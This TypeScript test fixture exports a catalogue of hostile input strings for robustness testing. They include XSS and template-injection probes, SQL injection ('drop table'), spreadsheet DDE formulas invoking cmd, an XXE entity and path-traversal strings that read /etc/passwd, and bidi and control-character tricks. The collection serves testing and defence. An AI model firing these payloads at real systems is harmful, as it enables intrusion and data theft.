/** What people who mean harm, and programs that mean none, put where words are expected. */

export interface Hostile {
  /** What it is made to break. */
  readonly kind: string;
  readonly text: string;
}

const kinds: Readonly<Record<string, readonly string[]>> = {
  markup: [
    '<script>globalThis.hacked = 1</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '</script><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</title><svg onload=alert(1)>',
    '<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<!-- --!><script>alert(1)</script>',
    ']]><![CDATA[<b>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '&lt;script&gt; &amp;amp; &#x3c;b&#62; &nbsp;',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
  ],
  templates: [
    "{{constructor.constructor('alert(1)')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
    '${alert(1)} `${1}` #{1} <%= 1 %>',
    'fill="var(--nothing)" data-a="b" var(--ink) url(#a)',
    '\\u003cb\\u003e %3Cb%3E',
  ],
  sql: [
    "'; drop table observations; --",
    '"; drop table observations; --',
    'a", (select 1) as "b',
    '$$; select 1; $$ /* */ ; --',
    'select',
    '*',
  ],
  formulas: [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+cmd|x!A0',
    '@SUM(1)',
    '＝1+1',
    '\t=1+1',
    '\n=1+1',
    '=HYPERLINK("http://example.org/?"&A1,"a")',
  ],
  directions: ['\u202Egnp.exe\u202C', '\u2066a\u2069\u200F', 'a\u200Bb\u200Dc\uFEFFd\u00ADe'],
  prototypes: ['__proto__', 'constructor', 'toString', 'hasOwnProperty'],
  paths: ['../../etc/passwd', '/etc/passwd', 'C:\\Windows\\a', '..\\..\\a', 'CON', 'a/../b?c#d'],
  controls: [
    'a\u0000b',
    'a\u0007b\u001B[31mc',
    'a\u007Fb\u0085c',
    'line\nfeed',
    'carriage\r\nreturn',
    'tab\tin',
    'a\u2028b\u2029c',
    '_x0041_ _x000D_',
  ],
  'no characters': ['a\uFFFEb\uFFFFc', 'a\uFDD0b\u{1FFFE}c'],
  surrogates: ['a\uD800b', '\uDC00a', '😀\u{20000}'],
  notation: [
    '[a](javascript:alert(1)) ![b](http://example.org/x.png)',
    '*b* _i_ `c` ~~d~~ | e | <f@g.h>',
    '# h',
    '1. x',
    '> x',
    'a}, note = {b',
    '\\input{/etc/passwd} 100% $x$ #1 ~ ^ & _',
  ],
  length: ['长'.repeat(30_000), `a${'\u0301'.repeat(300)}`, 'a b '.repeat(5000).trim()],
};

export const hostile: readonly Hostile[] = Object.entries(kinds).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);
